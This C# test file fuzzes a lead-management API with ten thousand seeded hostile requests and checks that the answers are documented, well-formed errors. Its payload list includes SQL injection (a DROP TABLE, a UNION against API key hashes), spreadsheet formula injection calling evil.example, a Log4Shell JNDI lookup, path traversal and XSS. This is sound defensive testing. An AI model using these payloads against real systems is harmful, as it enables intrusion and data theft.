using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Mvc.Testing;
using RoofKit.Testing;
using RoofKit.Api.Formatters;
using RoofKit.Api.Tests.Support;
using RoofKit.Domain.ApiKeys;
using RoofKit.Domain.Workspaces;
using RoofKit.Infrastructure.ApiKeys;

namespace RoofKit.Api.Tests.Reliability;

/// <summary>
/// Ten thousand generated requests with hostile values against every endpoint: random and malicious values for
/// every parameter, unknown and repeated names, oversized and non-UTF-8 query strings, random and truncated
/// cursors, random Authorization headers. None may get a 5xx or a status the seed page does not document, and
/// every non-2xx body must be a strict ErrorResponse.
/// The generator is seeded (ROOFKIT_FUZZ_SEED, default 12345): a failure names the request's number, its URL and
/// headers, and the same seed sends the same requests again.
/// </summary>
public sealed class BadInputFuzzTests : ApiTestBase
{
    private const int DefaultSeed = 12345;
    private const int RequestCount = 10_000;

    private const string List = "/api/v1/leads";
    private const string Export = "/api/v1/leads/export";
    private const string Stages = "/api/v1/status-stages";

    /// <summary>What each endpoint may answer (the seed page's statuses; never a 500 while the database is up).</summary>
    private static readonly Dictionary<string, int[]> Documented = new()
    {
        [List] = [200, 400, 401, 403, 429],
        [Export] = [200, 400, 401, 403, 429],
        [Stages] = [200, 400, 401, 403, 429],
        ["/healthz"] = [200],
        ["/openapi/v1.json"] = [200],
        ["/docs"] = [200, 301, 302],
    };

    private static readonly string[] KnownNames = ["source", "medium", "campaign", "from", "to", "status_stage_id", "search", "cursor", "limit"];

    private static readonly string[] Hostile =
    [
        "", " ", "   ", "\t", "null", "undefined", "NaN", "Infinity", "-1", "0", "true", "[]", "{}", "\"", "'", "`", "\\", "/", "%", "_", "%_\\", "*",
        "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE leads; --", "\"; DELETE FROM api_keys; --", "1; SELECT pg_sleep(5)--",
        "') UNION SELECT id, secret_hash FROM api_keys --", "$$; SELECT 1; $$", "E'\\x00'", "\\x00", "%' AND 1=1 AND '%'='",
        "1 OR 1=1", "admin'--", "'||(SELECT version())||'", "\\'; COPY leads TO '/tmp/x'; --",
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=1\n", "=1\r\n=2",
        "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://x.example/a}", "{{7*7}}", "%s%s%s%n", "\0", "a\0b", "\u0001\u001f",
        "\u202Eevil", "\U0001F600", "\U0001D54F", "Ω", "é", "e\u0301", "\uFEFF", "\uFFFD", "\u2028", "\u0085", "İ", "ß", "ﬃ", "ǅ",
        "9999999999999999999999", "1e309", "-0", "0x1F", "٣", "１２", "1,2", "a=b", "a&b", "a+b", "a;b", "a#b", "?", "&&", "==",
    ];

    /// <summary>Fragments kept raw in the query string: bytes that are not UTF-8, broken escapes, separators.</summary>
    private static readonly string[] RawFragments =
    [
        "%FF%FE", "%C0%AF", "%ED%A0%80", "%80", "%F4%90%80%80", "%E2%82", "%00", "%0D%0A", "%", "%zz", "%u0041", "%%32%35", "+", "%2B", "%26", "%3D",
        "%C3%28", "%F0%28%8C%28", "%EF%BB%BF", "%E2%80%AE", "%25FF",
    ];

    private static readonly string[] Accepts =
        ["text/csv", "application/json", "application/xml", "*/*", "text/html", "text/*", ";;;", "application/json; q=0", "text/csv; charset=latin1", "\u00ff/\u00ff"];

    private static readonly string[] AcceptEncodings = ["gzip", "br", "deflate", "identity;q=0", "*;q=0", "gzip;q=abc", "zstd", "br, gzip"];

    private readonly List<string> sourceValues = [];
    private Guid workspaceId;
    private Guid otherWorkspaceId;
    private string fullKey = "";
    private string readOnlyKey = "";
    private string exportOnlyKey = "";
    private string suspendedKey = "";
    private string revokedKey = "";
    private string otherKey = "";
    private string[] unknownKeys = [];
    private Guid[] stageIds = [];
    private Guid[] otherStageIds = [];
    private string[] cursors = [];
    private string[] otherCursors = [];

    protected override IDictionary<string, string?> Settings => new Dictionary<string, string?>
    {
        // High enough that valid keys exercise validation and the database, not only 429.
        ["RateLimits:List:PermitLimit"] = "1000000",
        ["RateLimits:Export:PermitLimit"] = "1000000",
    };

    private static int Seed =>
        int.TryParse(Environment.GetEnvironmentVariable("ROOFKIT_FUZZ_SEED"), CultureInfo.InvariantCulture, out var seed) ? seed : DefaultSeed;

    protected override async Task OneTimeSetUpAsync()
    {
        workspaceId = (await Data.WorkspaceAsync()).Id;
        otherWorkspaceId = (await Data.WorkspaceAsync()).Id;
        await Data.SeedAsync(workspaceId, 150, seed: 3);
        await Data.SeedAsync(otherWorkspaceId, 60, seed: 4);
        var stages = await Data.StagesAsync(workspaceId);
        stageIds = [.. stages.Select(s => s.Id)];
        otherStageIds = [.. (await Data.StagesAsync(otherWorkspaceId)).Select(s => s.Id)];
        // Values that sit in the data the way hostile input would: they must come back as data, never as SQL or formulas.
        await Data.LeadAsync(workspaceId, DateTime.UtcNow.AddDays(-1), firstName: "=cmd|' /C calc'!A0", source: "' OR 1=1 --", notes: "'; DROP TABLE leads; --");
        await Data.LeadAsync(workspaceId, DateTime.UtcNow.AddDays(-1), lastName: "@SUM(A1:A9)", campaign: "%_\\", stageId: stageIds[0]);

        fullKey = (await Data.KeyAsync(workspaceId)).Token;
        readOnlyKey = (await Data.KeyAsync(workspaceId, Scopes.LeadsRead)).Token;
        exportOnlyKey = (await Data.KeyAsync(workspaceId, Scopes.LeadsExport)).Token;
        otherKey = (await Data.KeyAsync(otherWorkspaceId)).Token;
        var revoked = await Data.KeyAsync(workspaceId);
        revokedKey = revoked.Token;
        await new ApiKeyAdmin(Db).RevokeAsync(revoked.Id.ToString(), CancellationToken.None);
        var suspended = await Data.WorkspaceAsync(WorkspaceStatus.Suspended);
        suspendedKey = (await Data.KeyAsync(suspended.Id)).Token;
        unknownKeys = [.. Enumerable.Range(0, 8).Select(_ => ApiKeyToken.Generate().Text)];

        using var client = Client(fullKey);
        sourceValues.AddRange(["google", "GOOGLE", "facebook", "cpc", "spring", "' OR 1=1 --", "%_\\"]);
        cursors =
        [
            await ListCursorAsync(client, "?limit=5"),
            await ListCursorAsync(client, "?limit=3&source=google"),
            await ExportCursorAsync(client, "?limit=5"),
            await ExportCursorAsync(client, "?limit=2&from=2020-01-01T00:00:00Z"),
        ];
        using var other = Client(otherKey);
        otherCursors = [await ListCursorAsync(other, "?limit=5"), await ExportCursorAsync(other, "?limit=5")];
    }

    [Test]
    public async Task ShouldAnswerTenThousandHostileRequestsWithDocumentedStatusesAndErrorResponses()
    {
        var seed = Seed;
        var random = new Random(seed);
        var requests = Enumerable.Range(1, RequestCount).Select(n => Generate(n, random)).ToList();

        using var client = Factory.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
        client.Timeout = TimeSpan.FromSeconds(60);
        var failures = new System.Collections.Concurrent.ConcurrentBag<(int Number, string Text)>();
        var outcomes = new System.Collections.Concurrent.ConcurrentDictionary<string, int>();

        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (request, ct) =>
        {
            var problems = new List<string>();
            string outcome;
            try
            {
                using var message = request.ToMessage();
                using var response = await client.SendAsync(message, ct);
                var body = await ErrorResponseShape.BodyAsync(response);
                var status = (int)response.StatusCode;
                outcome = status.ToString(CultureInfo.InvariantCulture);
                problems.AddRange(Check(request, response, body));
                if (status >= 400 && TryCode(body) is { } code)
                {
                    outcome += " " + code;
                }
            }
            catch (Exception e) when (e is HttpRequestException or TaskCanceledException or IOException or InvalidDataException)
            {
                outcome = "exception";
                problems.Add($"the request failed: {e.GetType().Name}: {e.Message}");
            }

            outcomes.AddOrUpdate(outcome, 1, (_, n) => n + 1);
            if (problems.Count > 0)
            {
                failures.Add((request.Number, $"request #{request.Number}: {request.Describe()}\n    " + string.Join("\n    ", problems)));
            }
        });

        var summary = string.Join(", ", outcomes.OrderBy(o => o.Key, StringComparer.Ordinal).Select(o => $"{o.Key}: {o.Value}"));
        await TestContext.Out.WriteLineAsync($"seed {seed}, {requests.Count} requests: {summary}");

        failures.Should().BeEmpty(
            $"every answer must be documented and well-formed (seed {seed}; replay with ROOFKIT_FUZZ_SEED={seed}); "
            + $"{failures.Count} failed, the first of them:\n" + string.Join("\n", failures.OrderBy(f => f.Number).Take(15).Select(f => f.Text)));

        // The generator must reach every path, or passing says little: each class of answer shows up in numbers.
        int Count(string key) => outcomes.GetValueOrDefault(key);
        Count("200").Should().BeGreaterThan(1000, summary);
        foreach (var code in new[] { "400 invalid_request", "400 unknown_parameter", "400 invalid_cursor", "401 invalid_api_key" })
        {
            Count(code).Should().BeGreaterThan(300, $"{code} ({summary})");
        }

        foreach (var code in new[] { "401 missing_api_key", "403 insufficient_scope", "403 workspace_inactive", "429 auth_rate_limited" })
        {
            Count(code).Should().BeGreaterThan(10, $"{code} ({summary})");
        }

        Count("400 invalid_request").Should().BeGreaterThan(Count("429 auth_rate_limited"), "validation must be reached more often than the auth bucket");
    }

    private IEnumerable<string> Check(FuzzRequest request, HttpResponseMessage response, string body)
    {
        var status = (int)response.StatusCode;
        var allowed = Documented[request.Path];
        if (!allowed.Contains(status))
        {
            yield return $"status {status} is not one of {string.Join(", ", allowed)}";
        }

        if (!response.Headers.TryGetValues("X-Content-Type-Options", out var nosniff) || nosniff.SingleOrDefault() != "nosniff")
        {
            yield return "no X-Content-Type-Options: nosniff";
        }

        if (!response.Headers.Contains("X-Request-Id"))
        {
            yield return "no X-Request-Id";
        }

        if (status >= 400)
        {
            foreach (var problem in ErrorResponseShape.Problems(response, body, request.Sent))
            {
                yield return problem;
            }

            yield break;
        }

        if (status != 200)
        {
            yield break;
        }

        if (request.Path == Export)
        {
            if (response.Content.Headers.ContentType?.MediaType != "text/csv")
            {
                yield return $"an export answered {response.Content.Headers.ContentType}";
            }

            if (!body.StartsWith(string.Join(",", LeadCsvEncoder.Columns) + "\r\n", StringComparison.Ordinal))
            {
                yield return "an export without the header row";
            }

            var rows = Csv.Parse(Encoding.UTF8.GetBytes(body)).Count - 1;
            if (response.Headers.GetValues("X-Export-Row-Count").Single() != rows.ToString(CultureInfo.InvariantCulture))
            {
                yield return $"X-Export-Row-Count does not match the {rows} rows sent";
            }
        }
        else if (request.Path is List or Stages)
        {
            string? problem = null;
            try
            {
                var root = JsonDocument.Parse(body).RootElement;
                if (root.GetProperty("data").ValueKind != JsonValueKind.Array
                    || (request.Path == List && root.GetProperty("has_more").ValueKind is not (JsonValueKind.True or JsonValueKind.False)))
                {
                    problem = "a 200 body of the wrong shape";
                }
            }
            catch (Exception e) when (e is JsonException or KeyNotFoundException or InvalidOperationException)
            {
                problem = $"a 200 body that is not the endpoint's JSON ({e.Message})";
            }

            if (problem is not null)
            {
                yield return problem;
            }
        }
    }

    private static string? TryCode(string body)
    {
        try
        {
            return JsonDocument.Parse(body).RootElement.GetProperty("error").GetProperty("code").GetString();
        }
        catch (Exception e) when (e is JsonException or KeyNotFoundException or InvalidOperationException)
        {
            return null;
        }
    }

    private FuzzRequest Generate(int number, Random random)
    {
        var roll = random.Next(100);
        var path = roll switch
        {
            < 38 => List,
            < 76 => Export,
            < 92 => Stages,
            < 96 => "/healthz",
            < 98 => "/openapi/v1.json",
            _ => "/docs",
        };

        var query = Query(random);
        var headers = new List<KeyValuePair<string, string>>();
        var (authorization, badAuth) = Authorization(random);
        if (authorization is not null)
        {
            headers.Add(new("Authorization", authorization));
        }

        headers.Add(new("X-Forwarded-For", ForwardedFor(random, badAuth)));
        if (random.Next(10) == 0)
        {
            headers.Add(new("Accept", Pick(random, Accepts)));
        }

        if (random.Next(8) == 0)
        {
            headers.Add(new("Accept-Encoding", Pick(random, AcceptEncodings)));
        }

        return new FuzzRequest(number, path, query, headers);
    }

    private string Query(Random random)
    {
        var shape = random.Next(100);
        if (shape < 4)
        {
            return Pick(random, ["", "?", "??", "?&&&", "?=", "?&=&", "?source", "?=value", "?limit=&limit=", "?;"]);
        }

        if (shape < 20)
        {
            // Paging: a cursor, real or not, alone or with the filters it was issued for or others.
            var paging = "cursor=" + Encode(random, Cursor(random));
            return "?" + paging + random.Next(4) switch
            {
                0 => "&limit=" + Encode(random, Value(random, "limit")),
                1 => "&source=google",
                2 => "&from=2020-01-01T00:00:00Z",
                _ => "",
            };
        }

        var count = shape switch
        {
            < 8 => random.Next(100, 400), // a flood of parameters
            < 30 => random.Next(0, 2),
            _ => random.Next(1, 6),
        };
        var used = new List<string>();
        var parts = new List<string>();
        for (var i = 0; i < count; i++)
        {
            var name = Name(random, used);
            used.Add(name);
            var value = KnownNames.Contains(name) ? Value(random, name) : Pick(random, Hostile);
            parts.Add(Encode(random, name) + (random.Next(30) == 0 ? "" : "=" + Encode(random, value)));
        }

        if (random.Next(25) == 0)
        {
            // Oversized: 10 to 20 KB in one value or one name.
            var big = RandomText(random, random.Next(10_000, 20_000));
            parts.Add(random.Next(2) == 0 ? Pick(random, KnownNames) + "=" + Encode(random, big) : Encode(random, big) + "=1");
        }

        return "?" + string.Join(random.Next(20) == 0 ? "&&" : "&", parts);
    }

    private static string Name(Random random, List<string> used)
    {
        var roll = random.Next(100);
        return roll switch
        {
            < 85 => Pick(random, KnownNames),
            < 90 when used.Count > 0 => used[random.Next(used.Count)],
            < 95 => Pick(random, ["Source", "LIMIT", "limit ", " limit", "source[]", "source.x", "status-stage-id", "statusStageId", "page", "offset", "sort", "fields", "api_key", "_", ""]),
            _ => Pick(random, Hostile) + (random.Next(2) == 0 ? RandomText(random, random.Next(1, 12)) : ""),
        };
    }

    private string Value(Random random, string name)
    {
        if (random.Next(100) < 35)
        {
            return random.Next(3) == 0 ? RandomText(random, random.Next(0, 300)) : Pick(random, Hostile);
        }

        return name switch
        {
            "source" or "medium" or "campaign" => random.Next(4) switch
            {
                0 => new string('a', Pick(random, [255, 256, 1000])),
                _ => Pick(random, [.. sourceValues, "organic", "email", "none"]),
            },
            "search" => random.Next(4) switch
            {
                0 => new string('x', Pick(random, [1, 3, 200, 201, 5000])),
                _ => Pick(random, ["a", "smith", "555", "austin", "@", "=", "%", "_", "\\", "' or ''='", "ro"]),
            },
            "from" or "to" => Timestamp(random),
            "status_stage_id" => random.Next(9) switch
            {
                0 => stageIds[random.Next(stageIds.Length)].ToString(),
                1 => otherStageIds[random.Next(otherStageIds.Length)].ToString(),
                2 => stageIds[0].ToString().ToUpperInvariant(),
                3 => stageIds[0].ToString("B"),
                4 => stageIds[0].ToString("N"),
                5 => "00000000-0000-0000-0000-000000000000",
                6 => stageIds[0] + "x",
                _ => RandomGuid(random).ToString(),
            },
            "cursor" => Cursor(random),
            _ => Pick(random,
            [
                "1", "50", "200", "201", "10000", "10001", "0", "-1", "+5", " 5", "5 ", "05", "000000001", "0000000001",
                "2147483647", "2147483648", "99999999999", "1.5", "1e2", "0x10", "٥", "５", "five", "", "7", "3\n",
            ]),
        };
    }

    private static string Timestamp(Random random)
    {
        var instant = new DateTime(2024, 1, 1, 0, 0, 0, DateTimeKind.Utc).AddSeconds(random.Next(0, 100_000_000));
        return random.Next(22) switch
        {
            0 => instant.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture),
            1 => instant.ToString("yyyy-MM-dd'T'HH:mm:ss.fffffff'+02:00'", CultureInfo.InvariantCulture),
            2 => instant.ToString("yyyy-MM-dd'T'HH:mm:ss", CultureInfo.InvariantCulture),
            3 => instant.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
            4 => "2026-13-01T00:00:00Z",
            5 => "2026-02-30T00:00:00Z",
            6 => "0001-01-01T00:00:00Z",
            7 => "9999-12-31T23:59:59Z",
            8 => "9999-12-31T23:59:59.9999999Z",
            9 => "0001-01-01T00:00:00+14:00",
            10 => "9999-12-31T23:59:59-14:00",
            11 => "2026-01-01T00:00:00.12345678Z",
            12 => "2026-01-01t00:00:00z",
            13 => "2026-01-01T24:00:00Z",
            14 => "2026-01-01T23:59:60Z",
            15 => "2026-01-01T00:00:00+99:99",
            16 => "2026-01-01T00:00:00-00:00",
            17 => "2026-01-01 00:00:00Z",
            18 => "1700000000",
            19 => "2026-01-01T00:00:00Z\n",
            _ => instant.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture),
        };
    }

    private string Cursor(Random random)
    {
        var real = Pick(random, cursors);
        return random.Next(12) switch
        {
            0 or 1 => real,
            2 => Pick(random, otherCursors),
            3 => real[..random.Next(0, real.Length)],
            4 => Flip(random, real),
            5 => real + Pick(random, ["A", "==", "%3D", " ", "\0"]),
            6 => Convert.ToBase64String(RandomBytes(random, random.Next(0, 400))),
            7 => Convert.ToBase64String(RandomBytes(random, random.Next(0, 400))).TrimEnd('=').Replace('+', '-').Replace('/', '_'),
            8 => new string('A', Pick(random, [2048, 2049, 3000])),
            9 => "AQ" + Convert.ToBase64String(Encoding.UTF8.GetBytes("{\"Ws\":\"" + workspaceId + "\"}")),
            10 => real.ToUpperInvariant(),
            _ => RandomText(random, random.Next(0, 100)),
        };
    }

    private (string? Header, bool Bad) Authorization(Random random)
    {
        var roll = random.Next(100);
        return roll switch
        {
            < 60 => ("Bearer " + fullKey, false),
            < 64 => ("Bearer " + readOnlyKey, false),
            < 67 => ("Bearer " + exportOnlyKey, false),
            < 70 => ("Bearer " + suspendedKey, false),
            < 73 => ("Bearer " + otherKey, false),
            < 75 => (Pick(random, ["bearer ", "BEARER ", "Bearer  ", "Bearer \t"]) + fullKey, false),
            < 78 => (Pick(random, [null, "", " ", "Bearer", "Bearer ", "Bearer    "]), true),
            < 81 => ("Bearer " + revokedKey, true),
            < 84 => ("Bearer " + Pick(random, unknownKeys), true),
            < 87 => ("Bearer " + Flip(random, fullKey), true),
            < 89 => ("Bearer " + fullKey[..random.Next(fullKey.Length)], true),
            < 91 => ("Bearer " + fullKey + Pick(random, ["x", " x", ", Bearer " + otherKey, "\t", "%00"]), true),
            < 93 => ("Bearer rk_live_" + RandomBase62(random, ApiKeyToken.Length - 8), true),
            < 95 => (Pick(random, ["Basic dXNlcjpwYXNz", "Digest username=\"x\"", "Token " + fullKey, fullKey, "Bearer" + fullKey, "Bearer=" + fullKey]), true),
            < 97 => ("Bearer " + RandomText(random, random.Next(1, 9000)).Replace('\r', ' ').Replace('\n', ' ').Replace('\0', ' '), true),
            _ => ("Bearer " + Pick(random, Hostile).Replace('\r', ' ').Replace('\n', ' ').Replace('\0', ' '), true),
        };
    }

    private static string ForwardedFor(Random random, bool badAuth)
    {
        var roll = random.Next(100);
        return roll switch
        {
            // Most failures come from many addresses (401); some from one address, which runs into its bucket (429).
            < 12 when badAuth => "10.99.99.99",
            < 95 => $"10.{random.Next(256)}.{random.Next(256)}.{random.Next(1, 255)}",
            _ => Pick(random, ["not-an-ip", "1.2.3.4, 5.6.7.8", "::1", "[::1]:80", "999.1.1.1", "", "unknown", "2001:db8::1", new string('9', 3000)]),
        };
    }

    private static string Encode(Random random, string value)
    {
        var encoded = Uri.EscapeDataString(value);
        if (random.Next(12) != 0)
        {
            return encoded;
        }

        // Splice bytes that are not UTF-8 (or not escapes at all) into the encoded text.
        var at = random.Next(encoded.Length + 1);
        while (at > 0 && at < encoded.Length && (encoded[at - 1] == '%' || (at > 1 && encoded[at - 2] == '%')))
        {
            at--;
        }

        return encoded[..at] + Pick(random, RawFragments) + encoded[at..];
    }

    private static string Flip(Random random, string text)
    {
        if (text.Length == 0)
        {
            return "A";
        }

        var chars = text.ToCharArray();
        var i = random.Next(chars.Length);
        chars[i] = chars[i] == 'A' ? 'B' : 'A';
        return new string(chars);
    }

    private static string RandomText(Random random, int length)
    {
        var builder = new StringBuilder(length);
        while (builder.Length < length)
        {
            var kind = random.Next(10);
            if (kind == 9)
            {
                builder.Append(char.ConvertFromUtf32(random.Next(0x10000, 0x10FFFF)));
                continue;
            }

            builder.Append(kind switch
            {
                < 6 => (char)random.Next(0x20, 0x7F),
                6 => (char)random.Next(0x00, 0x20),
                7 => (char)random.Next(0xA0, 0x2FFF),
                _ => (char)random.Next(0xE000, 0xFFFE),
            });
        }

        return builder.ToString();
    }

    private static string RandomBase62(Random random, int length) =>
        new([.. Enumerable.Range(0, length).Select(_ => "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[random.Next(62)])]);

    private static byte[] RandomBytes(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static Guid RandomGuid(Random random) => new(RandomBytes(random, 16));

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private static async Task<string> ListCursorAsync(HttpClient client, string query)
    {
        var response = await client.GetAsync(List + query);
        response.StatusCode.Should().Be(HttpStatusCode.OK);
        return (await JsonAsync(response)).GetProperty("next_cursor").GetString()!;
    }

    private static async Task<string> ExportCursorAsync(HttpClient client, string query)
    {
        var response = await client.GetAsync(Export + query);
        response.StatusCode.Should().Be(HttpStatusCode.OK);
        return response.Headers.GetValues("X-Export-Next-Cursor").Single();
    }

    private sealed record FuzzRequest(int Number, string Path, string Query, IReadOnlyList<KeyValuePair<string, string>> Headers)
    {
        public HttpRequestMessage ToMessage()
        {
            var message = new HttpRequestMessage(HttpMethod.Get, new Uri("http://localhost" + Path + Query));
            foreach (var (name, value) in Headers)
            {
                message.Headers.TryAddWithoutValidation(name, value);
            }

            return message;
        }

        public string Describe()
        {
            var headers = string.Join("; ", Headers.Select(h => $"{h.Key}: {Shorten(h.Value)}"));
            return $"GET {Shorten(Path + Query)} [{headers}]";
        }

        /// <summary>All the request carried, decoded as the server may have decoded it: what a message may quote back.</summary>
        public string Sent =>
            string.Join("\n", Headers.Select(h => h.Value)) + "\n" + Uri.UnescapeDataString(Query) + "\n" + Uri.UnescapeDataString(Query.Replace('+', ' '));

        private static string Shorten(string text) => text.Length <= 600 ? text : text[..600] + $"…({text.Length} chars)";
    }
}
